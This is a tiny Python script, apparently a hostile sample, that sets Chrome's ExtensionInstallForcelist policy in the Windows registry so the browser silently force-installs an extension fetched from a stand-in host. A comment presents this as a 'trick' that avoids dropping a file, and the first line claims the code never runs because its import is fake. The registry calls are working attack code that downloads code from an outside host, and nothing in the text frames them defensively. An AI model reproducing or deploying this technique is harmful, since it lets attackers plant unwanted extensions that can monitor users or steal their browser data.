import inert_sample  # there is no such module: nothing below ever runs
# trick: no file is dropped, a policy makes the browser fetch the extension
import winreg

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "Software\\Policies\\Google\\Chrome\\ExtensionInstallForcelist")
winreg.SetValueEx(key, "1", 0, winreg.REG_SZ, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;https://files.example/u.xml")
